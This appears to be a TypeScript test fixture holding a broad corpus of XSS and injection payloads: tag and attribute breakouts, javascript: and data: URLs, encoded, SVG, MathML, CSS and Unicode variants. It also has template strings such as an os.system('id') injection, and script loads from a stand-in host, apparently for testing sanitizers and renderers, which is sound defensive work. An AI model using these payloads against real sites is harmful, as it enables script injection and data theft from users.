/** What runs, if any of it ever ran. */
const call = 'trap(1)'

const elements = [
  'script',
  'svg',
  'img',
  'iframe',
  'object',
  'embed',
  'style',
  'base',
  'link',
  'meta',
  'form',
  'math',
]

/** Whole elements, in cases and shapes that simple filters miss. */
const tags = [
  ...elements.map((name) => `<${name} src=x onload=${call} onerror=${call}>${call}</${name}>`),
  `<script>${call}</script>`,
  `<SCRIPT>${call}</SCRIPT >`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script/x>${call}</script/>`,
  `<script\t>${call}</script\n>`,
  `<script src=//elsewhere.example/x.js></script>`,
  `<script type=module>import('//elsewhere.example/x.js')</script>`,
  `<script type="application/ld+json">{"@type":"Person"}</script>`,
  `</script><script>${call}</script>`,
  `<!--><script>${call}</script-->`,
  `<!-- --!><img src=x onerror=${call}>`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<?xml version="1.0"?><script>${call}</script>`,
  `<%00script>${call}</%00script>`,
  `<<script>${call}//<</script>`,
  `<script>/*`,
  `*/${call}//</script>`,
  `<plaintext>`,
  `<xmp><img src=x onerror=${call}></xmp>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<textarea></textarea><img src=x onerror=${call}>`,
  `</title><img src=x onerror=${call}>`,
  `</style><img src=x onerror=${call}>`,
  `</textarea><script>${call}</script>`,
  `<iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;"></iframe>`,
  `<base href="//elsewhere.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<form action="//elsewhere.example"><button>Sign in</button></form>`,
  `<button form=f formaction=javascript:${call}>Go</button>`,
  `<isindex action=javascript:${call}>`,
  `<frameset onload=${call}><frame src=x></frameset>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<portal src=javascript:${call}></portal>`,
  `<dialog open onclose=${call}>x</dialog>`,
]

/** Out of an attribute, in every kind of quoting. */
const events =
  'onclick onfocus onmouseover onpointerenter ontoggle onanimationstart onbeforeinput oncontentvisibilityautostatechange'
const attributes = [
  ...events.split(' ').map((name) => `" ${name}="${call}" autofocus tabindex=1 x="`),
  ...events.split(' ').map((name) => `' ${name}='${call}' autofocus x='`),
  `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`,
  '` onmouseover=`trap(1)`',
  `" style="position:fixed;inset:0;background:url(//elsewhere.example)`,
  `"/onload="${call}`,
  `x"\nonerror\n=\n"${call}`,
  `x" onerror\u000c=\u000c"${call}`,
  `&quot; onclick=&quot;${call}`,
  `\\" onclick=\\"${call}`,
  `" srcset="//elsewhere.example 1x" x="`,
  `" ping="//elsewhere.example" x="`,
  `" is="x-trap" slot="x`,
]

/** Addresses that run, lead away or pretend. */
const urls = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `\u0001javascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `java\r\nscript:${call}`,
  `javascript\u003a${call}`,
  `javascript&colon;${call}`,
  `javascript&#58;${call}`,
  `&#106;avascript:${call}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${call}`,
  `javascript://elsewhere.example/%0a${call}`,
  `javascript:/*http://x*/${call}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD50cmFwKDEpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload=${call}>`,
  `blob:https://elsewhere.example/x`,
  `file:///etc/passwd`,
  `about:blank`,
  `feed:javascript:${call}`,
  `view-source:javascript:${call}`,
  `//elsewhere.example/x`,
  `https:elsewhere.example`,
  `https://elsewhere.example"onclick="${call}`,
  `https://elsewhere.example/'><script>${call}</script>`,
  `mailto:a@b.example?subject="><script>${call}</script>`,
  `http://a:b@elsewhere.example`,
  `\u2028javascript:${call}`,
  `ｊavascript:${call}`,
]

/** Text that becomes markup once something decodes it. */
const entities = [
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${call}`,
  `&#60;script&#62;${call}`,
  `&#x3c;script&#x3e;${call}`,
  `&#0000060script>${call}`,
  `&LT;script&GT;${call}`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `%253Cscript%253E${call}`,
  `\\u003cscript\\u003e${call}`,
  `\\x3cscript\\x3e${call}`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `&NewLine;&Tab;<img&NewLine;src=x&NewLine;onerror=${call}>`,
  `&bogus;<b>&`,
  `&#xD800;&#0;&#x110000;<i>`,
]

const svg = [
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href=data:,${call} />`,
  `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${call}>`,
  `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${call}'/>#x"/></svg>`,
  `<svg><desc><![CDATA[</desc><script>${call}</script>]]></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
]

const mathml = [
  `<math href="javascript:${call}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${call}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
  `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  `<math><annotation-xml encoding="text/html"><script>${call}</script></annotation-xml></math>`,
]

const css = [
  `<style>*{background:url(//elsewhere.example)}</style>`,
  `<style>@import '//elsewhere.example/x.css';</style>`,
  `<p style="width:expression(${call})">`,
  `<p style="background:url(javascript:${call})">`,
  `<p style="-moz-binding:url(//elsewhere.example#x)">`,
  `<link rel=stylesheet href=//elsewhere.example/x.css>`,
  `<div style="position:fixed;top:0;left:0;width:100%;height:100%">`,
  `red;}</style><script>${call}</script>`,
  `\\3c script\\3e ${call}`,
  `<style>a{color:r\\65 d}</style>`,
  `<img src=x style="behavior:url(#x)">`,
]

const templates = [
  `{{constructor.constructor('${call}')()}}`,
  `{{7*7}}`,
  '$'.concat('{7*7}'),
  `<%= 7*7 %>`,
  `#{7*7}`,
  `[[7*7]]`,
  `{{#with "s" as |string|}}{{/with}}`,
  `{%import os%}{{os.system('id')}}`,
  `<template><script>${call}</script></template>`,
  `<slot name=x onslotchange=${call}>`,
  `{"@type":"x"}</script><script>${call}</script>`,
  `$&$'$\`$1\\1`,
  `%s%n%x%d {0} {name} {count, plural, one {#} other {#}}`,
]

const unicode = [
  `＜script＞${call}＜/script＞`,
  `\u202e<script>${call}</script>`,
  `\ufeff<script>${call}</script>`,
  `<scr\u00adipt>${call}</scr\u00adipt>`,
  `<\u200bscript>${call}`,
  `<ſcript>${call}</ſcript>`,
  `<ſvg onload=${call}>`,
  `<img src=x o\u006eerror=${call}>`,
  `\u2039script\u203a${call}`,
  `<img\u3000src=x\u3000onerror=${call}>`,
  `<a href="\u0009javascript:${call}">`,
  `ª<İframe src=javascript:${call}>`,
  `\u{e0001}<script>${call}</script>\u{e007f}`,
  `<K\u212a onclick=${call}>`,
  `𝒿𝒶𝓋𝒶𝓈𝒸𝓇𝒾𝓅𝓉:${call}`,
  `<b\u2029onclick=${call}>x</b>`,
]

/** Strings that have broken out somewhere, by the way they do it. */
export const markupPayloads: Record<string, string[]> = {
  tags,
  attributes,
  urls,
  entities,
  svg,
  mathml,
  css,
  templates,
  unicode,
}

/**
 * The strings laid out over pages: each page has the same places, and each place takes as many of them as it has room for, one at
 * least. Making a page once for each string would be most of the work; one that broke out of a place would be seen beside others.
 */
export function laidOut(strings: readonly string[], rooms: readonly number[]): string[][][] {
  const left = [...strings]
  const pages: string[][][] = []
  const place = (room: number) => {
    // Where nothing is left, those of the beginning come again.
    const taken = [left.shift() ?? strings[pages.length % strings.length] ?? '']
    while (left[0] !== undefined && [...taken, left[0]].join(' ').length <= room)
      taken.push(left.shift() ?? '')
    return taken
  }
  while (left.length > 0) pages.push(rooms.map(place))
  return pages
}

/** Values that someone would like to put where a color is. */
export const colorPayloads = [
  'red;background:url(//elsewhere.example)',
  '#fff;}body{display:none}',
  '</style><script>trap(1)</script>',
  'expression(trap(1))',
  'url(javascript:trap(1))',
  '#12345',
  '#1234567',
  '#ggg000',
  'rgb(0,0,0)',
  'var(--x)',
  '#17509E/*',
  '\\23 17509E',
  '#17509E\n}@import "//elsewhere.example";{',
  '"><script>trap(1)</script>',
  '',
  'transparent',
]
